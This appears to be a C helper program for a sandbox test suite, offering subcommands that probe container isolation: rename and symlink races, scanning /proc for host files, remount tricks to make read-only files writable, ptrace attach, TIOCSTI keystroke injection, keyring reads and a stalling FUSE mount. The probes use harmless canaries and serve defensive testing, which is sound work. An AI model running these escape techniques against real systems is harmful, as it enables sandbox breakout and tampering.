/* SPDX-License-Identifier: ISC */
/*
 * attack: what a shell cannot do of the attacks of attack.bats. Static, so that it also runs inside.
 *
 * attack swap SECS A B              exchange A and B for SECS seconds, as fast as it goes
 * attack snatch SECS DIR TARGET     wherever a folder of DIR's appears: put a link to TARGET in its place
 * attack spy SECS FILE              look for FILE of the host behind every /proc/PID/{root,cwd,fd/N}; says where
 * attack write FILE                 try all that would make FILE writable, and write
 * attack trace PID                  is PID ours to trace?
 * attack type                       TIOCSTI on every terminal that is there
 * attack key COMMAND...             a key in a session keyring of its own; "@" in COMMAND is its number
 * attack readkey N                  read it
 * attack groups COMMAND...          with as many groups as there can be
 * attack opened FILE COMMAND...     was FILE opened while COMMAND ran?
 * attack deaf DIR                   mount on DIR a file system (FUSE) that is asked and never answers
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double
now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int
swap(double secs, const char *a, const char *b)
{
	double end = now() + secs;
	long n = 0;

	while (now() < end)
		n += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0;
	/* An even number puts all back. */
	if (n % 2)
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
	return n ? 0 : 1;
}

static int
snatch(double secs, const char *dir, const char *target)
{
	static const char *const names[] = { "etc", "tmp", "bin", "sbin", "var", "usr", "root" };
	double end = now() + secs;
	char path[PATH_MAX], aside[PATH_MAX];
	struct stat st;
	size_t i;

	while (now() < end)
		for (i = 0; i < sizeof names / sizeof *names; i++) {
			snprintf(path, sizeof path, "%s/%s", dir, names[i]);
			snprintf(aside, sizeof aside, "%s/%s.was", dir, names[i]);
			if (lstat(path, &st) == 0 && S_ISDIR(st.st_mode) && rename(path, aside) == 0 && symlink(target, path) < 0)
				return 1;
		}
	return 0;
}

static int
there(const char *link, const char *file)
{
	char path[PATH_MAX];
	struct stat st;

	snprintf(path, sizeof path, "%s/%s", link, file);
	return stat(path, &st) == 0;
}

static int
look(const char *pid, const char *file)
{
	char path[128], up[192];
	struct dirent *e;
	int found = 0;
	DIR *d;

	snprintf(path, sizeof path, "/proc/%s/root", pid);
	found += there(path, file) && printf("%s\n", path);
	snprintf(path, sizeof path, "/proc/%s/cwd", pid);
	found += there(path, file) && printf("%s\n", path);
	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	d = opendir(path);
	while (d && (e = readdir(d))) {
		snprintf(up, sizeof up, "%s/%.10s/../../../../../../../../../../../..", path, e->d_name);
		found += e->d_name[0] != '.' && there(up, file) && printf("%s\n", up);
	}
	if (d)
		closedir(d);
	return found;
}

static int
spy(double secs, const char *file)
{
	double end = now() + secs;
	int found = 0;
	struct dirent *e;
	DIR *d = opendir("/proc");

	while (d && now() < end && !found) {
		rewinddir(d);
		while ((e = readdir(d)))
			if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
				found += look(e->d_name, file);
	}
	puts(found ? "FOUND" : "nothing");
	return 0;
}

static int
overwrite(const char *file)
{
	struct { unsigned long long set, clear, propagation, userns; } rw = { .clear = 1 };
	static const int flags[] = { O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND };
	int fd = open(file, O_PATH), i;
	char path[64];

	mount(NULL, file, NULL, MS_REMOUNT | MS_BIND, NULL);
	syscall(442 /* mount_setattr */, AT_FDCWD, file, 0, &rw, sizeof rw);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
	mkdir("/m", 0755);
	close(open("/m/f", O_CREAT | O_WRONLY, 0600));
	if (mount(path, "/m/f", NULL, MS_BIND, NULL) == 0)
		mount(NULL, "/m/f", NULL, MS_REMOUNT | MS_BIND, NULL);
	for (i = 0; i < 4; i++)
		if (open(file, flags[i]) >= 0 || open(path, flags[i]) >= 0)
			puts("WRITABLE");
	if (open("/m/f", O_WRONLY) >= 0 && umount("/m/f") == 0)
		puts("WRITABLE by a mount");
	umount2("/m/f", MNT_DETACH);
	puts("tried");
	return 0;
}

static int
type(void)
{
	static const char *const names[] = { "/dev/tty", "/dev/console", "/dev/stdin", "/dev/stdout", "/dev/stderr" };
	const char *p, *text = "echo TYPED\n";
	int fd;
	size_t i;

	for (fd = 0; fd < 3; fd++)
		for (p = text; *p; p++)
			ioctl(fd, TIOCSTI, p);
	for (i = 0; i < 5; i++) {
		fd = open(names[i], O_RDWR | O_NOCTTY | O_NONBLOCK);
		if (fd >= 0)
			ioctl(fd, TIOCSCTTY, 1);
		for (p = text; fd >= 0 && *p; p++)
			ioctl(fd, TIOCSTI, p);
	}
	return 0;
}

static int
key(char **cmd)
{
	char n[32];
	long serial;
	char **a;

	syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, NULL);
	serial = syscall(SYS_add_key, "user", "canary", "secret", 6, -3 /* session */);
	if (serial < 0)
		return 1;
	snprintf(n, sizeof n, "%ld", serial);
	for (a = cmd; *a; a++)
		if (strcmp(*a, "@") == 0)
			*a = n;
	execvp(*cmd, cmd);
	return 1;
}

static int
readkey(long serial)
{
	char buf[16];

	if (syscall(SYS_keyctl, 11 /* READ */, serial, buf, sizeof buf) > 0)
		puts("READ");
	if (syscall(SYS_keyctl, 10 /* SEARCH */, -3, "user", "canary", 0) > 0)
		puts("FOUND");
	puts("tried");
	return 0;
}

static int
groups(char **cmd)
{
	static gid_t g[65536];
	gid_t i;

	for (i = 0; i < 65536; i++)
		g[i] = 1000000 + i;
	if (setgroups(65536, g) < 0)
		return 1;
	execvp(*cmd, cmd);
	return 1;
}

static int
opened(const char *file, char **cmd)
{
	int in = inotify_init1(IN_NONBLOCK | IN_CLOEXEC), status;
	char buf[4096];
	pid_t pid;

	if (in < 0 || inotify_add_watch(in, file, IN_OPEN) < 0 || (pid = fork()) < 0)
		return 1;
	if (pid == 0) {
		execvp(*cmd, cmd);
		_exit(127);
	}
	waitpid(pid, &status, 0);
	puts(read(in, buf, sizeof buf) > 0 ? "OPENED" : "not opened");
	return WEXITSTATUS(status);
}

struct fuse_head { uint32_t len, op; uint64_t unique, node; uint32_t uid, gid, pid, pad; };

static int
deaf(const char *dir)
{
	struct { uint32_t len; int32_t err; uint64_t unique; uint32_t major, minor, rest[14]; } ans = { .major = 7, .minor = 31 };
	static char buf[1 << 17];
	char data[96];
	struct fuse_head *h = (void *)buf;
	int fd = open("/dev/fuse", O_RDWR);

	if (fd < 0) {
		mknod("/fuse", S_IFCHR | 0600, 10 << 8 | 229);
		fd = open("/fuse", O_RDWR);
	}
	snprintf(data, sizeof data, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fd);
	if (fd < 0 || mount("deaf", dir, "fuse", 0, data) < 0) {
		perror("fuse");
		return 1;
	}
	puts("mounted");
	while (read(fd, buf, sizeof buf) > 0)
		if (h->op == 26 /* FUSE_INIT */) {
			ans.len = sizeof ans;
			ans.unique = h->unique;
			if (write(fd, &ans, sizeof ans) < 0)
				return 1;
		} else {
			printf("asked %u\n", h->op);
			fflush(stdout);
		}
	return 0;
}

int
main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(what, "swap") == 0 && argc == 5)
		return swap(atof(argv[2]), argv[3], argv[4]);
	if (strcmp(what, "snatch") == 0 && argc == 5)
		return snatch(atof(argv[2]), argv[3], argv[4]);
	if (strcmp(what, "spy") == 0 && argc == 4)
		return spy(atof(argv[2]), argv[3]);
	if (strcmp(what, "write") == 0 && argc == 3)
		return overwrite(argv[2]);
	if (strcmp(what, "trace") == 0 && argc == 3)
		return puts(ptrace(PTRACE_ATTACH, (pid_t)atoi(argv[2]), NULL, NULL) == 0 ? "TRACED" : "refused") < 0;
	if (strcmp(what, "type") == 0)
		return type();
	if (strcmp(what, "key") == 0 && argc > 2)
		return key(argv + 2);
	if (strcmp(what, "readkey") == 0 && argc == 3)
		return readkey(atol(argv[2]));
	if (strcmp(what, "groups") == 0 && argc > 2)
		return groups(argv + 2);
	if (strcmp(what, "opened") == 0 && argc > 3)
		return opened(argv[2], argv + 3);
	if (strcmp(what, "deaf") == 0 && argc == 3)
		return deaf(argv[2]);
	return 2;
}
